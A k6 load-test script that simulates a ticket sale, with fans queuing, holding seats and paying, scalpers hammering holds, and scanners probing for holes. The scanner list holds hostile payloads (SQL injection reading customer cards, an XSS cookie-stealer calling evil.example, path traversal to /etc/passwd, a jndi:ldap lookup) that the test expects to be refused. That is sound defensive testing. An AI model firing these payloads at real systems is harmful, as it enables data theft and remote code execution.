// A sale opens: fans wait in the queue, look at the seat map, hold seats and pay. Among them scalpers, who hold as fast as
// they can from one address, and scanners, who look for holes. `make load` runs it; TARGET, SECRET, PEAK and DURATION come
// from there.

import { check, sleep } from "k6";
import exec from "k6/execution";
import http from "k6/http";

const TARGET = __ENV.TARGET;
const PEAK = Number(__ENV.PEAK); // journeys that begin in a second once the sale is open
const DURATION = Number(__ENV.DURATION);
const BROWSER = {
  "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
  "Accept-Language": "en-GB,en;q=0.7,nl;q=0.3",
  "Accept-Encoding": "gzip, deflate, br",
  "X-Origin-Verify": __ENV.SECRET,
};
const ATTACKS = [
  "/events/4711/seats?section=A%27%20UNION%20SELECT%20name,card%20FROM%20customers--",
  "/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E",
  "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
  "/tickets?callback=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
];

http.setResponseCallback(http.expectedStatuses(200, 403, 429)); // what is right for whom is checked below

export const options = {
  scenarios: {
    fans: {
      executor: "ramping-arrival-rate", exec: "fan", startRate: Math.ceil(PEAK / 10), timeUnit: "1s",
      preAllocatedVUs: PEAK * 4, maxVUs: PEAK * 12,
      stages: [
        { target: Math.ceil(PEAK / 10), duration: `${Math.ceil(DURATION / 6)}s` }, // before the opening
        { target: PEAK, duration: "2s" }, // the doors open
        { target: PEAK, duration: `${Math.ceil(DURATION / 2)}s` },
        { target: Math.ceil(PEAK / 4), duration: `${Math.ceil(DURATION / 3)}s` }, // the best seats are gone
      ],
    },
    scalpers: { executor: "constant-vus", exec: "scalper", vus: 2, duration: `${DURATION}s` },
    scanners: { executor: "constant-arrival-rate", exec: "scanner", rate: Math.max(1, Math.round(PEAK / 4)), timeUnit: "1s", duration: `${DURATION}s`, preAllocatedVUs: 10 },
  },
  thresholds: {
    "checks{who:fan}": ["rate>0.999"],
    "checks{who:scalper}": ["rate==1"],
    "checks{who:scanner}": ["rate==1"],
    "http_req_duration{who:fan}": ["p(95)<50", "p(99)<150"],
    "http_reqs{who:scalper,status:429}": ["count>100"],
    http_req_failed: ["rate<0.001"],
    dropped_iterations: ["count<10"],
  },
  summaryTrendStats: ["med", "p(95)", "p(99)", "max"],
};
for (const step of ["queue", "seat map", "hold", "payment"]) {
  options.thresholds[`http_req_duration{step:${step}}`] = ["p(99)<150"];
}

function address(number) {
  return `203.${(number >> 16) & 255}.${(number >> 8) & 255}.${number & 255}`;
}

function headers(client, more) {
  return Object.assign({ "X-Forwarded-For": client }, BROWSER, more);
}

function passes(response) {
  return check(response, { passes: (r) => r.status === 200 });
}

export function fan() {
  const id = exec.scenario.iterationInTest;
  const client = address(id);
  const as = (step, more) => ({ headers: headers(client, more), tags: { who: "fan", step } });
  exec.vu.metrics.tags.who = "fan";

  for (let round = 0; round < 2; round++) {
    passes(http.get(`${TARGET}/queue/4711?token=q-${id}&position=${5000 - id}`, as("queue")));
    sleep(0.3);
  }
  for (const section of ["A", "B'12"]) { // a name as halls have them
    passes(http.get(`${TARGET}/events/4711/seats?section=${encodeURIComponent(section)}&sort=-price&view=stage`, as("seat map")));
    sleep(0.2);
  }
  const seats = [1, 2, 3].map((i) => ({ section: "A", row: "K", seat: i, price: 89.5, note: "aisle, if possible; O'Brien & sons" }));
  const json = { "Content-Type": "application/json" };
  passes(http.post(`${TARGET}/holds`, JSON.stringify({ event: 4711, seats, fan: { name: "Anna O'Brien", mail: "anna@example.com" } }), as("hold", json)));
  sleep(0.3);
  const form = { hold: `h-${id}`, method: "ideal", bank: "RABONL2U", amount: "268.50", note: "for Mum & Dad <3", terms: "on" };
  passes(http.post(`${TARGET}/payments`, form, as("payment")));
}

export function scalper() {
  exec.vu.metrics.tags.who = "scalper";
  const response = http.post(`${TARGET}/holds`, JSON.stringify({ event: 4711, seats: [{ section: "A", row: "A", seat: 1 }] }), {
    headers: headers("198.51.100.66", { "Content-Type": "application/json", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0" }),
    tags: { who: "scalper", step: "hold" },
  });
  check(response, { "passes or is told to wait": (r) => r.status === 200 || (r.status === 429 && Number(r.headers["Retry-After"]) > 0) });
  sleep(0.02);
}

export function scanner() {
  exec.vu.metrics.tags.who = "scanner";
  const id = exec.scenario.iterationInTest;
  const response = http.get(TARGET + ATTACKS[id % ATTACKS.length], { headers: headers(address(1 << 20 | id)), tags: { who: "scanner", step: "attack" } });
  check(response, { "is refused": (r) => r.status === 403 });
}
